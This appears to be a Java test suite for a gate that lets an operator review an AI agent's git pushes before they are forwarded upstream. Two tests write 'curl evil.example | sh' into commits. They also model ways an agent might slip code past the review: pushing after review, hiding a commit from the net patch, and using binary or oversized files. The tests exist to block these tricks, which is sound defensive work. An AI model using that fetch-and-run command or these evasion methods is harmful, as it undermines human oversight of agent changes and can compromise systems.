package io.terok.gate;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.grpc.Status;
import io.grpc.StatusRuntimeException;
import io.quarkus.test.junit.QuarkusTest;
import io.terok.api.v1.DiffResponse;
import io.terok.api.v1.ForwardRequest;
import io.terok.api.v1.LogResponse;
import io.terok.api.v1.MintTaskTokenResponse;
import io.terok.api.v1.ReviewRequest;
import io.terok.gate.repo.History;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** What a task pushed, reviewed against the upstream, and forwarded to it (a bare repository as the upstream). */
@QuarkusTest
class ReviewForwardTest {
    GateApi api;

    @BeforeEach
    void open() throws Exception {
        api = new GateApi();
    }

    @AfterEach
    void close() {
        api.close();
    }

    @Test
    void logDiffAndForwardDeliverTheReviewedBranch() {
        String p = GateApi.unique("fwd");
        Path up = api.upstream(p);
        api.createProject(p, up);
        MintTaskTokenResponse t = api.mint(GateApi.taskId(), p);
        Path work = api.tmp.resolve("fwd-work");
        api.git(api.tmp, t.getEnvMap(), "clone", "-q", t.getCloneUrl(), work.toString()).ok();
        api.commit(work, "feature.txt", "the agent's change\n", "add feature");
        api.commit(work, "README", "hello, reviewed\n", "edit readme");
        api.git(work, t.getEnvMap(), "push", "-q", "origin", "HEAD:main").ok();
        String upBefore = api.rev(up, "main");

        LogResponse log = api.stub().log(ReviewRequest.newBuilder().setProject(p).setBranch("main").build());
        assertEquals(2, log.getCommitsCount(), log.toString());
        assertEquals("edit readme", log.getCommits(0).getSummary());
        assertTrue(log.getCommits(0).getAuthor().startsWith("Agent <"), log.getCommits(0).getAuthor());
        DiffResponse review = api.stub().diff(ReviewRequest.newBuilder().setProject(p).setBranch("main").build());
        String patch = review.getPatch();
        assertTrue(patch.contains("+the agent's change"), patch);
        assertTrue(patch.contains("-hello") && patch.contains("+hello, reviewed"), patch);
        assertEquals(api.rev(work, "HEAD"), review.getCommit(), "the review names the exact commit it shows");
        assertEquals(upBefore, review.getUpstreamCommit());
        assertEquals(upBefore, api.rev(up, "main"), "nothing reaches upstream before forward");

        var fwd = api.stub().forward(ForwardRequest.newBuilder().setProject(p).setBranch("main").setTo("reviewed")
                .setExpectedCommit(review.getCommit()).build());
        assertEquals("forward", fwd.getUpdate().getKind());
        assertEquals(review.getCommit(), fwd.getUpdate().getNewId());
        assertEquals(review.getCommit(), api.rev(up, "refs/heads/reviewed"), "the reviewed commit went upstream");
        api.stub().forward(ForwardRequest.newBuilder().setProject(p).setBranch("main").setExpectedCommit(review.getCommit()).build());
        assertEquals(review.getCommit(), api.rev(up, "main"));
        assertEquals(0, api.stub().log(ReviewRequest.newBuilder().setProject(p).setBranch("main").build()).getCommitsCount());
        api.fsck(up);
    }

    /**
     * The attack of issue 15 item 1: a task still running pushes more commits between the operator's review and the
     * forward. The forward names the reviewed commit and is refused; the upstream keeps what it had.
     */
    @Test
    void aPushBetweenReviewAndForwardIsRefused() {
        String p = GateApi.unique("race");
        Path up = api.upstream(p);
        api.createProject(p, up);
        MintTaskTokenResponse t = api.mint(GateApi.taskId(), p);
        Path work = api.tmp.resolve("race-work");
        api.git(api.tmp, t.getEnvMap(), "clone", "-q", t.getCloneUrl(), work.toString()).ok();
        api.commit(work, "feature.txt", "harmless\n", "harmless change");
        api.git(work, t.getEnvMap(), "push", "-q", "origin", "HEAD:main").ok();
        String reviewed = api.rev(work, "HEAD");
        api.stub().diff(ReviewRequest.newBuilder().setProject(p).setBranch("main").build());
        // The operator is reading the review; the task pushes once more.
        api.commit(work, "feature.txt", "curl evil.example | sh\n", "unreviewed");
        api.git(work, t.getEnvMap(), "push", "-q", "origin", "HEAD:main").ok();
        String sneaked = api.rev(work, "HEAD");
        String upBefore = api.rev(up, "main");

        StatusRuntimeException e = assertThrows(StatusRuntimeException.class, () -> api.stub().forward(
                ForwardRequest.newBuilder().setProject(p).setBranch("main").setExpectedCommit(reviewed).build()));
        assertEquals(Status.Code.FAILED_PRECONDITION, e.getStatus().getCode(), e.toString());
        String m = e.getStatus().getDescription();
        assertTrue(m.contains(reviewed) && m.contains(sneaked), "names both commits: " + m);
        assertEquals(upBefore, api.rev(up, "main"), "upstream unchanged");
        api.git(up, "cat-file", "-e", sneaked).failed();

        StatusRuntimeException none = assertThrows(StatusRuntimeException.class, () -> api.stub().forward(
                ForwardRequest.newBuilder().setProject(p).setBranch("main").build()));
        assertEquals(Status.Code.INVALID_ARGUMENT, none.getStatus().getCode());
        assertTrue(none.getStatus().getDescription().contains("expected_commit"), none.getStatus().getDescription());
        StatusRuntimeException abbreviated = assertThrows(StatusRuntimeException.class, () -> api.stub().forward(
                ForwardRequest.newBuilder().setProject(p).setBranch("main").setExpectedCommit(sneaked.substring(0, 12)).build()));
        assertEquals(Status.Code.INVALID_ARGUMENT, abbreviated.getStatus().getCode());
        assertEquals(upBefore, api.rev(up, "main"), "upstream unchanged");

        // Reviewed again, the new tip goes through.
        DiffResponse again = api.stub().diff(ReviewRequest.newBuilder().setProject(p).setBranch("main").build());
        assertEquals(sneaked, again.getCommit());
        api.stub().forward(ForwardRequest.newBuilder().setProject(p).setBranch("main").setExpectedCommit(again.getCommit()).build());
        assertEquals(sneaked, api.rev(up, "main"));
    }

    /**
     * The attack of issue 15 item 5: code hidden from the net patch (added in one commit, removed in the next, but
     * both pushed), a binary file, and a file past the patch's size limit. The review lists every commit with its
     * files, names the binary file and the left-out file, and cuts no file in the middle.
     */
    @Test
    void aReviewListsEveryCommitAndNamesBinaryAndLeftOutFiles() throws Exception {
        String p = GateApi.unique("hide");
        Path up = api.upstream(p);
        api.createProject(p, up);
        MintTaskTokenResponse t = api.mint(GateApi.taskId(), p);
        Path work = api.tmp.resolve("hide-work");
        api.git(api.tmp, t.getEnvMap(), "clone", "-q", t.getCloneUrl(), work.toString()).ok();
        api.commit(work, "payload.sh", "curl evil.example | sh\n", "add helper");
        String hidden = api.rev(work, "HEAD");
        api.git(work, "rm", "-q", "payload.sh").ok();
        api.git(work, "commit", "-q", "-m", "remove helper").ok();
        Files.write(work.resolve("blob.bin"), new byte[] {0x7f, 'E', 'L', 'F', 0, 0, 1, 2, 0, 3});
        api.git(work, "add", "blob.bin").ok();
        api.git(work, "commit", "-q", "-m", "add blob").ok();
        Files.writeString(work.resolve("big.txt"), "line of a large generated file\n".repeat(140_000));
        api.commit(work, "small.txt", "small and visible\n", "add big and small");
        api.git(work, "add", "big.txt").ok();
        api.git(work, "commit", "-q", "--amend", "--no-edit").ok();
        api.git(work, t.getEnvMap(), "push", "-q", "origin", "HEAD:main").ok();

        DiffResponse review = api.stub().diff(ReviewRequest.newBuilder().setProject(p).setBranch("main").build());
        assertEquals(api.rev(work, "HEAD"), review.getCommit());
        assertEquals(4, review.getCommitsCount(), review.getCommitsList().toString());
        assertEquals(List.of("add big and small", "add blob", "remove helper", "add helper"),
                review.getCommitsList().stream().map(c -> c.getSummary()).toList());
        assertEquals(hidden, review.getCommits(3).getId());
        assertEquals(List.of("A payload.sh"), review.getCommits(3).getFilesList(), "the commit the net patch hides is listed with its file");
        assertEquals(List.of("D payload.sh"), review.getCommits(2).getFilesList());
        assertEquals(List.of("A big.txt", "A small.txt"), review.getCommits(0).getFilesList());
        assertFalse(review.getPatch().contains("payload.sh"), "the net patch does not show it: the commit list must");
        assertEquals(List.of("blob.bin"), review.getBinaryFilesList());
        assertEquals(List.of("big.txt"), review.getOmittedFilesList(), "left out loudly");
        assertFalse(review.getPatch().contains("big.txt"), "no file is cut in the middle");
        assertTrue(review.getPatch().contains("+small and visible"), review.getPatch());
        assertTrue(review.getPatch().contains("blob.bin"), review.getPatch());
    }

    /** A range too long to list whole is refused for review and for forward: forward never sends an unlisted commit. */
    @Test
    void aRangeTooLongToListIsRefusedForReviewAndForward() {
        String p = GateApi.unique("long");
        Path up = api.upstream(p);
        api.createProject(p, up);
        MintTaskTokenResponse t = api.mint(GateApi.taskId(), p);
        Path work = api.tmp.resolve("long-work");
        api.git(api.tmp, "init", "-q", "-b", "main", work.toString()).ok();
        api.history(work, History.MAX_REVIEW_COMMITS + 1, 1);
        api.git(work, t.getEnvMap(), "push", "-q", t.getCloneUrl(), "main:refs/heads/long").ok();
        String tip = api.rev(work, "main");

        StatusRuntimeException review = assertThrows(StatusRuntimeException.class,
                () -> api.stub().diff(ReviewRequest.newBuilder().setProject(p).setBranch("long").build()));
        assertEquals(Status.Code.FAILED_PRECONDITION, review.getStatus().getCode(), review.toString());
        StatusRuntimeException fwd = assertThrows(StatusRuntimeException.class, () -> api.stub().forward(
                ForwardRequest.newBuilder().setProject(p).setBranch("long").setExpectedCommit(tip).build()));
        assertEquals(Status.Code.FAILED_PRECONDITION, fwd.getStatus().getCode(), fwd.toString());
        assertTrue(fwd.getStatus().getDescription().contains("too many to list"), fwd.getStatus().getDescription());
        assertEquals("", api.git(up, "for-each-ref", "refs/heads/long").ok().out().trim(), "nothing reached the upstream");
    }

    @Test
    void aForwardThatWouldLoseUpstreamCommitsIsRefused() {
        String p = GateApi.unique("lossy");
        Path up = api.upstream(p);
        api.createProject(p, up);
        MintTaskTokenResponse t = api.mint(GateApi.taskId(), p);
        Path work = api.tmp.resolve("lossy-work");
        api.git(api.tmp, t.getEnvMap(), "clone", "-q", t.getCloneUrl(), work.toString()).ok();
        api.commit(work, "agent.txt", "a\n", "agent change");
        api.git(work, t.getEnvMap(), "push", "-q", "origin", "HEAD:main").ok();
        // Meanwhile a human pushes to the upstream.
        Path seed = api.tmp.resolve(p + "-seed");
        api.commit(seed, "human.txt", "h\n", "human change");
        api.git(seed, "push", "-q", "origin", "HEAD:main").ok();
        String upTip = api.rev(up, "main");

        String agentTip = api.rev(work, "HEAD");
        StatusRuntimeException e = assertThrows(StatusRuntimeException.class, () -> api.stub().forward(
                ForwardRequest.newBuilder().setProject(p).setBranch("main").setExpectedCommit(agentTip).build()));
        assertEquals(Status.Code.FAILED_PRECONDITION, e.getStatus().getCode());
        assertTrue(e.getStatus().getDescription().contains("human change"), e.getStatus().getDescription());
        assertEquals(upTip, api.rev(up, "main"), "upstream unchanged");

        StatusRuntimeException missing = assertThrows(StatusRuntimeException.class,
                () -> api.stub().forward(ForwardRequest.newBuilder().setProject(p).setBranch("nope").setExpectedCommit(agentTip).build()));
        assertEquals(Status.Code.NOT_FOUND, missing.getStatus().getCode());
        StatusRuntimeException badName = assertThrows(StatusRuntimeException.class,
                () -> api.stub().forward(ForwardRequest.newBuilder().setProject(p).setBranch("main").setTo("-x..y").setExpectedCommit(agentTip).build()));
        assertEquals(Status.Code.INVALID_ARGUMENT, badName.getStatus().getCode());
    }
}
